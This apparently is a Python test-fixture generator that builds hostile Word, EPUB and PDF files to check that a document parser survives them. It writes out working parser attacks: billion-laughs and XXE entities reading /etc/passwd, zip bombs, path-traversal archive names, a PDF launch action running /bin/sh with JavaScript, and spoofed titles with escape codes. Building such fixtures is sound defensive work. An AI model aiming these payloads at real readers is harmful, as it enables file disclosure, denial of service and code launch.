"""Word files, books and PDFs that are built to break a reader."""

import io
import zipfile
from collections.abc import Callable, Iterator

from engine.research.bench.hostile.originals import (
    CONTAINER,
    WORDS,
    docx,
    epub,
    lines,
    one_page,
    package,
    paragraph,
    pdf,
    stream,
    xhtml,
)

_LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a 'ha ha ha '>"
    + "".join(
        f"<!ENTITY {after} '{f'&{before};' * 10}'>" for before, after in zip("abcdefghi", "bcdefghij", strict=True)
    )
    + "]>"
)
_OUTSIDE = "<!DOCTYPE x [<!ENTITY f SYSTEM 'file:///etc/passwd'><!ENTITY % p SYSTEM 'http://example.invalid/x'> %p;]>"
_SAID = "".join(map(paragraph, WORDS))
_TURNED = "\u202egnp.exe\u2066 &#27;[2J &lt;img src=x&gt; =1+1"
_BOMB_WORDS = 60_000_000
"""Bytes of a part that is nothing when packed."""


def made_packages() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """File names, and what makes the file."""
    yield from _word()
    yield from _books()
    yield from _pdfs()


def _word() -> Iterator[tuple[str, Callable[[], bytes]]]:
    yield "bomb.docx", lambda: docx(paragraph("a" * 1000) * (_BOMB_WORDS // 1000))
    yield "bomb-of-one-word.docx", lambda: docx(paragraph("a" * _BOMB_WORDS))
    yield "bomb-in-white.docx", lambda: docx(_SAID + " " * _BOMB_WORDS)
    yield "laughs.docx", lambda: docx(paragraph("&j;") + _SAID, before=_LAUGHS)
    yield "outside.docx", lambda: docx(paragraph("&f;") + _SAID, before=_OUTSIDE)
    yield "deep.docx", lambda: docx("<w:p>" * 100_000 + "x" + "</w:p>" * 100_000)
    yield "tables.docx", lambda: docx("<w:tbl><w:tr><w:tc>" * 3_000 + _SAID + "</w:tc></w:tr></w:tbl>" * 3_000)
    yield "runs.docx", lambda: docx("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 200_000 + "</w:p>")
    yield "empty-paragraphs.docx", lambda: docx("<w:p/>" * 400_000 + _SAID)
    yield "title.docx", lambda: docx(_SAID, title=_TURNED)
    yield "heading.docx", lambda: docx(paragraph(_TURNED) + _SAID)
    yield "no-document.docx", lambda: package({"word/document2.txt": "x", "[Content_Types].xml": "<a/>"})
    yield "empty-document.docx", lambda: package({"word/document.xml": ""})
    yield "not-xml.docx", lambda: package({"word/document.xml": "Words " * 1000})
    yield "utf7.docx", lambda: package({"word/document.xml": "<?xml version='1.0' encoding='utf-7'?><a>+ADw-</a>"})
    yield "folder.docx", lambda: package({"word/document.xml/": "", "word/document.xml": docx(_SAID)})
    yield "up.docx", lambda: package({"../../../tmp/out.xml": "x", "/etc/out": "x", "word/document.xml": "<a/>"})
    yield "in-itself.docx", lambda: package({"word/document.xml": docx(_SAID), "word/inner.docx": docx(_SAID)})
    yield "many-parts.docx", lambda: package({f"word/document{n}.xml": "<a/>" for n in range(20_000)})
    yield "twice.docx", lambda: _twice("word/document.xml")
    yield "locked-part.docx", lambda: _changed(docx(_SAID), b"PK\x01\x02", 8, b"\x01\x00")
    yield "method.docx", lambda: _changed(docx(_SAID), b"PK\x01\x02", 10, b"\x63\x00")
    yield "larger-than-said.docx", lambda: _changed(docx(_SAID * 400), b"PK\x01\x02", 24, b"\x05\x00\x00\x00")
    yield "list-beyond-the-end.docx", lambda: _changed(docx(_SAID), b"PK\x05\x06", 16, b"\xff\xff\xff\x7f")
    yield (
        "links.docx",
        lambda: docx(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText>'
            "</w:r></w:p>" + _SAID
        ),
    )


def _books() -> Iterator[tuple[str, Callable[[], bytes]]]:
    chapter = xhtml("".join(f"<p>{text}</p>" for text in WORDS))
    yield "bomb.epub", lambda: epub({f"c{n}.xhtml": xhtml("<p>" + "a " * 3_000_000 + "</p>") for n in range(10)})
    yield "laughs.epub", lambda: epub({"c.xhtml": xhtml("<p>&j;</p>", before=_LAUGHS)})
    yield "laughs-in-its-list.epub", lambda: epub({"c.xhtml": chapter}, before=_LAUGHS)
    yield "outside.epub", lambda: epub({"c.xhtml": xhtml("<p>&f;</p>", before=_OUTSIDE)})
    yield "up.epub", lambda: epub({"c.xhtml": chapter}, place="../../../../etc/passwd")
    yield "root.epub", lambda: epub({"c.xhtml": chapter}, place="/etc/passwd")
    yield "coded.epub", lambda: epub({"c.xhtml": chapter}, place="%2e%2e%2f%2e%2e%2fbook.opf")
    yield "up-in-its-list.epub", lambda: epub({"../../../../etc/passwd": chapter})
    yield "itself.epub", lambda: epub({"c.xhtml": chapter}, place="META-INF/container.xml")
    yield "same-chapter.epub", lambda: epub({"c.xhtml": chapter}, spine='<itemref idref="c0"/>' * 20_000)
    yield "no-such-chapter.epub", lambda: epub({"c.xhtml": chapter}, spine='<itemref idref="nobody"/>' * 20_000)
    yield "many-chapters.epub", lambda: epub({f"c{n}.xhtml": xhtml(f"<p>Part {n} says no.</p>") for n in range(3_000)})
    yield "deep.epub", lambda: epub({"c.xhtml": xhtml("<div>" * 100_000)})
    yield "pictures.epub", lambda: epub({"c.xhtml": b"\x89PNG\r\n\x1a\n".decode("latin-1") * 1000})
    yield "no-list.epub", lambda: package({"META-INF/container.xml": CONTAINER.format(place="gone.opf")})
    yield "empty-container.epub", lambda: package({"META-INF/container.xml": ""})
    yield "title.epub", lambda: epub({"c.xhtml": chapter.replace("Harbour", _TURNED)})


def _pdfs() -> Iterator[tuple[str, Callable[[], bytes]]]:
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    yield "head-alone.pdf", lambda: b"%PDF-1.7\n"
    yield "no-pages.pdf", lambda: pdf({1: catalog, 2: b"<< /Type /Pages /Kids [] /Count 0 >>"})
    yield "tree-in-itself.pdf", lambda: pdf({1: catalog, 2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 5 >>"})
    yield "count.pdf", lambda: one_page(lines()).replace(b"/Count 1 ", b"/Count 2147483647 ")
    yield "negative-count.pdf", lambda: one_page(lines()).replace(b"/Count 1 ", b"/Count -5 ")
    yield "many-pages.pdf", lambda: _pages(3_000)
    yield (
        "deep-tree.pdf",
        lambda: pdf(
            {1: catalog, **{n: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (n + 1) for n in range(2, 5_000)}}
        ),
    )
    yield "deep-array.pdf", lambda: pdf({1: catalog, 2: b"[" * 300_000 + b"]" * 300_000})
    yield "huge-page.pdf", lambda: one_page(lines()).replace(b"[0 0 612 792]", b"[0 0 1e9 1e9]")
    yield "no-page.pdf", lambda: one_page(lines()).replace(b"[0 0 612 792]", b"[0 0 0 0]")
    yield "turned-page.pdf", lambda: one_page(lines()).replace(b"[0 0 612 792]", b"[9e37 -9e37 1 nan]")
    yield "rotated.pdf", lambda: one_page(lines(), page=b"/Rotate 12345679")
    yield "units.pdf", lambda: one_page(lines(), page=b"/UserUnit 1e30")
    yield "bomb.pdf", lambda: one_page(b"q\n" * 20_000_000, packed=True)
    yield "graphics-states.pdf", lambda: one_page(b"q " * 500_000 + lines())
    yield "glyphs.pdf", lambda: one_page(b"BT /F 10 Tf 72 700 Td " + b"(a) Tj " * 300_000 + b"ET", packed=True)
    yield (
        "one-place.pdf",
        lambda: one_page(b"BT /F 10 Tf " + b"1 0 0 1 72 700 Tm (word) Tj " * 60_000 + b"ET", packed=True),
    )
    yield (
        "scattered.pdf",
        lambda: one_page(
            b"BT /F 2 Tf "
            + b"".join(b"1 0 0 1 %d %d Tm (w%d) Tj " % (n * 37 % 600, n * 91 % 780, n) for n in range(40_000))
            + b"ET",
            packed=True,
        ),
    )
    yield (
        "rules.pdf",
        lambda: one_page(
            lines() + b"".join(b" %d %d m %d %d l S" % (n % 600, n % 700, n % 500, n % 790) for n in range(150_000)),
            packed=True,
        ),
    )
    yield (
        "cells.pdf",
        lambda: one_page(
            lines() + b"".join(b" %d %d 3 3 re S" % (n % 200 * 3, n // 200 * 3) for n in range(50_000)), packed=True
        ),
    )
    yield "huge-letters.pdf", lambda: one_page(b"BT /F 1e30 Tf 72 700 Td (Harbour) Tj ET " + lines())
    yield "tiny-letters.pdf", lambda: one_page(b"BT /F 0.000001 Tf 72 700 Td (Harbour) Tj ET " + lines())
    yield "long-string.pdf", lambda: one_page(b"BT /F 10 Tf 72 700 Td (" + b"a" * 3_000_000 + b") Tj ET", packed=True)
    yield (
        "form-in-itself.pdf",
        lambda: one_page(
            b"/X Do " + lines(),
            page=b"/Resources << /Font << /F 5 0 R >> /XObject << /X 6 0 R >> >>",
            more={
                6: stream(
                    b"/X Do /X Do",
                    b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>",
                )
            },
        ),
    )
    yield (
        "huge-picture.pdf",
        lambda: one_page(
            b"500 0 0 500 50 200 cm /X Do",
            page=b"/Resources << /XObject << /X 6 0 R >> >>",
            more={
                6: stream(
                    bytes(4_000_000),
                    b"/Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8",
                    packed=True,
                )
            },
        ),
    )
    yield (
        "filters.pdf",
        lambda: one_page(lines()).replace(b"/Length ", b"/Filter [%s] /Length " % (b"/FlateDecode " * 5_000)),
    )
    yield (
        "xref-in-a-circle.pdf",
        lambda: pdf({1: catalog, 2: b"<< /Type /Pages /Kids [] /Count 0 >>"}, trailer=b"/Prev 15"),
    )
    yield "no-xref.pdf", lambda: one_page(lines()).partition(b"xref")[0]
    yield "wrong-length.pdf", lambda: one_page(lines()).replace(b"/Length ", b"/Length 99999999 /Old ")
    yield (
        "outline-in-a-circle.pdf",
        lambda: one_page(
            lines(),
            more={
                6: b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
                7: b"<< /Title (Round) /Parent 6 0 R /Next 7 0 R /First 7 0 R /Dest [3 0 R /Fit] >>",
            },
        ).replace(b"/Type /Catalog", b"/Type /Catalog /Outlines 6 0 R"),
    )
    yield (
        "acting.pdf",
        lambda: one_page(
            lines(), more={6: b"<< /S /Launch /F (/bin/sh) /Next << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"}
        ).replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction 6 0 R"),
    )
    yield (
        "title.pdf",
        lambda: pdf(
            {
                1: catalog,
                2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
                b"/Resources << /Font << /F 5 0 R >> >> >>",
                4: stream(lines()),
                5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
                6: b"<< /Title <%s> >>" % ("\ufeff\u202egnp.exe\x1b[2J<img src=x>".encode("utf-16-be").hex().encode()),
            },
            trailer=b"/Info 6 0 R",
        ),
    )
    yield (
        "locked.pdf",
        lambda: pdf(
            {
                1: catalog,
                2: b"<< /Type /Pages /Kids [] /Count 0 >>",
                3: b"<< /Filter /Standard /V 5 /R 6 /O () /U () /P -1 >>",
            },
            trailer=b"/Encrypt 3 0 R /ID [() ()]",
        ),
    )
    yield (
        "notes.pdf",
        lambda: one_page(
            lines(), page=b"/Annots [" + b"<< /Subtype /Link /Rect [0 0 1 1] /A << /URI (x) >> >> " * 30_000 + b"]"
        ),
    )


def _pages(count: int) -> bytes:
    """So many pages with the same words."""
    kids = b" ".join(b"%d 0 R" % n for n in range(5, count + 5))
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R /Resources << /Font << /F 4 0 R >> >> >>"
    )
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            3: stream(lines()),
            4: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            **dict.fromkeys(range(5, count + 5), page),
        }
    )


def _changed(data: bytes, record: bytes, offset: int, value: bytes) -> bytes:
    """The package with other bytes in each of its records of a kind."""
    changed = bytearray(data)
    at = changed.find(record)
    while at >= 0:
        changed[at + offset : at + offset + len(value)] = value
        at = changed.find(record, at + 4)
    return bytes(changed)


def _twice(name: str) -> bytes:
    """A package with two parts of one name."""
    whole, other = docx(_SAID), package({name.replace("w", "v", 1): "<a/>"})
    out = io.BytesIO(whole)
    with zipfile.ZipFile(out, "a") as file, zipfile.ZipFile(io.BytesIO(other)) as second:
        file.writestr(zipfile.ZipInfo("word/document.xmk"), second.read(second.namelist()[0]))
    return out.getvalue().replace(b"word/document.xmk", name.encode())
